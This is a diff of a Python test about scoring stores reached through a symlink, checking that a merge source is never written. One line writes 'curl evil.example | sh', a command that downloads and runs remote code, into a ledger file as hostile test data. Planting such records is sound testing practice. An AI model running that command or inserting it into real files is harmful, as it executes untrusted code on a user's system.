@@ -62,10 +62,8 @@ def test_a_store_may_be_a_link_and_a_source_of_a_merge_is_never_written(tmp_path
     texts = rmlab.load("mini").head(24)
     rmlab.score(texts, Streaming(), store=tmp_path / "theirs")
     (tmp_path / "link").symlink_to(tmp_path / "theirs")
-    again = Streaming()
-    rmlab.score(texts, again, store=tmp_path / "link")
-    assert again.forwarded == []
-    assert len(rmlab.read_scores(tmp_path / "link")) == 24
+    rmlab.score(texts, second := Streaming(), store=tmp_path / "link")
+    assert second.forwarded == []
     ledger = next((tmp_path / "theirs").glob("*/*.records"))
     ledger.write_bytes(ledger.read_bytes() + b"\ncurl evil.example | sh\n")
     before = {path: path.read_bytes() for path in (tmp_path / "theirs").rglob("*") if path.is_file()}
